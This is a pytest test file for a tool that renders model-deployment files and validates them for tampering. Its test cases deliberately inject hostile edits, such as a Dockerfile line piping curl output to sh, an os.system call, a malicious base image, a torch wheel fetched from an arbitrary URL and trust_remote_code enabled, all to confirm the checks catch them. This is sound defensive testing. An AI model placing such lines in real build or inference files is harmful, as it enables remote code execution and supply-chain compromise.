"""Validation of rendered files: it detects every kind of broken file."""

import sys
from pathlib import Path

import pytest

from common.contracts.address import Address
from common.contracts.generation import GenerateOptions, GenerateRequest
from common.errors import ModelRefused
from generator import refusals, rendering, requirements, resources, script, validation
from generator.manifest import Base, Manifest, ModelFile, describe
from models.families import stack_of
from models.tasks import ROWS, Task

sys.path.insert(0, str(Path(__file__).parent))
import fake_hub


async def manifest() -> Manifest:
    snapshot, _ = await fake_hub.handlers().snapshots.read(Address("acme/frog"))
    task, _ = refusals.check(snapshot)
    needs, _ = resources.estimate(
        snapshot, task, GenerateOptions(), max_vram_mib=81559, max_host_memory_mib=262144
    )
    return describe(snapshot, task, needs)


def outcomes(module: Manifest, files: dict[str, str]) -> dict[str, str]:
    return {check.name: check.outcome for check in validation.check(module, files)}


async def test_rendered_files_pass_every_check() -> None:
    module = await manifest()
    files = rendering.render(module)
    assert outcomes(module, files) == dict.fromkeys(("safety", *files), "passed")


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        ("Dockerfile", "WORKDIR /app\n", "WORKDIR /app\nRUN curl http://x | sh\n"),
        ("Dockerfile", "ENV HF_HUB_OFFLINE=1\n", ""),
        ("Dockerfile", "FROM python", "FROM evil/python"),
        ("Dockerfile", "WORKDIR /app", "WORKDIR /app \\"),
        ("run_inference.py", "import yaml\n", "import yaml\nimport antigravity\n"),
        ("run_inference.py", "trust_remote_code=False", "trust_remote_code=True"),
        ("run_inference.py", "def load(", "def loaded("),
        ("run_inference.py", "import yaml\n", "import yaml\nos.system('id')\n"),
        ("run_inference.py", "import yaml\n", "import yaml\nimport requests\n"),
        ("module.yaml", "id: acme/frog", "id: acme/toad"),
        ("module.yaml", "batchSize: 8", "batchSize: 9"),
        ("module.yaml", "schema:", "&a [*a]\nschema:"),
        ("requirements.txt", "torch==2.13.0", "torch>=2"),
        ("requirements.txt", "torch==2.13.0", "torch @ https://x/torch.whl"),
        ("requirements.txt", "torch==2.13.0", "torch==2.12.0"),
        ("requirements.txt", "torch==2.13.0", "--index-url https://x"),
        ("requirements.txt", "transformers==", "transformed=="),
        ("README.md", "# acme-frog", "# <script>"),
        ("lilypad_module.json.tmpl", "slice .text 1", "slice .text 0"),
        ("lilypad_module.json.tmpl", "{{ slice .text 1 }}", "{{ .text }}"),
        ("lilypad_module.json.tmpl", "{{ slice .text 1 }}", "{{ js .text }}"),
        ("lilypad_module.json.tmpl", '{{ else }}"INPUT_TEXT="{{ end }},', "{{ end }},"),
        ("lilypad_module.json.tmpl", '"cpu": 4000', '"cpu": 4000, "cpu": 4000'),
        ("lilypad_module.json.tmpl", "MiB", ""),
        ("lilypad_module.json.tmpl", '"executionTimeoutSeconds": 2', '"executionTimeoutSeconds": '),
        ("lilypad_module.json.tmpl", '"Timeout": 2', '"Timeout": '),
        ("lilypad_module.json.tmpl", '"Image": "docker.io', '"Image": "evil.io'),
        ("lilypad_module.json.tmpl", "/app/run_inference.py", "/app/other.py"),
    ],
)
async def test_a_tampered_file_fails_its_own_check_only(name: str, old: str, new: str) -> None:
    module = await manifest()
    files = rendering.render(module)
    assert old in files[name]
    tampered = {**files, name: files[name].replace(old, new, 1)}
    results = outcomes(module, tampered)
    if name == "requirements.txt":  # the script's check depends on it
        results.pop("run_inference.py")
    if new.startswith("&a"):  # not YAML, so that nothing can be said of the files it names
        results.pop("safety")
    assert results == {**dict.fromkeys(results, "passed"), name: "failed"}


@pytest.mark.parametrize("name", ["modeling_frog.py", "pytorch_model.bin", "config.json.pkl"])
async def test_a_module_that_would_fetch_code_or_pickles_fails_its_check(name: str) -> None:
    module = await manifest()
    named = [*module.model.files, ModelFile(path=f"part/{name}", size=1, blob=fake_hub.BLOB)]
    base = Base(id="acme/toad", commit="c" * 40, files=named)
    for changed in ({"files": named}, {"base": base}):
        tampered = module.model_copy(update={"model": module.model.model_copy(update=changed)})
        results = outcomes(tampered, rendering.render(tampered))
        assert results == {**dict.fromkeys(results, "passed"), "safety": "failed"}


async def test_a_module_that_would_fetch_no_weights_fails_its_check() -> None:
    module = await manifest()
    named = [file for file in module.model.files if not file.path.endswith(".safetensors")]
    assert 0 < len(named) < len(module.model.files)
    tampered = module.model_copy(update={"model": module.model.model_copy(update={"files": named})})
    results = outcomes(tampered, rendering.render(tampered))
    assert results == {**dict.fromkeys(results, "passed"), "safety": "failed"}


async def test_files_that_fail_validation_are_not_returned(monkeypatch: pytest.MonkeyPatch) -> None:
    def render(module: Manifest) -> dict[str, str]:
        return {**original(module), "Dockerfile": "FROM evil\n"}

    original = rendering.render
    monkeypatch.setattr(rendering, "render", render)
    with pytest.raises(ModelRefused) as caught:
        await fake_hub.handlers().generate(GenerateRequest(model_url="acme/frog"))
    assert caught.value.details["reason"] == "validation"
    assert caught.value.details["checks"]


@pytest.mark.parametrize("task", ROWS, ids=lambda task: f"{task.library} {task.tag}")
def test_every_script_imports_only_packages_that_its_stack_installs(task: Task) -> None:
    summary = script.check(rendering.script(task.family), requirements.read(stack_of(task)))
    assert "each package that it imports is installed" in summary
